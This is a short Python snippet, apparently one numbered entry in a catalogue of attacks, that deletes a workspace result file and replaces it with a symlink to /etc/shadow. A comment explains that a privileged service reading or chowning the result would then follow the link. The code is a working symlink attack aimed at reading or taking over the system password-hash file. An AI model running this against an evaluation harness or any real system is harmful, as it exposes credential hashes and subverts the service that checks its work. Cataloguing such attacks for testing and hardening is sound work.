# attack-class: 29
# title: replace the result file with a symlink to /etc/shadow
# why: if the service reads or chowns the result with privileges it follows the link

import os

os.remove("/workspace/result.json")
os.symlink("/etc/shadow", "/workspace/result.json")
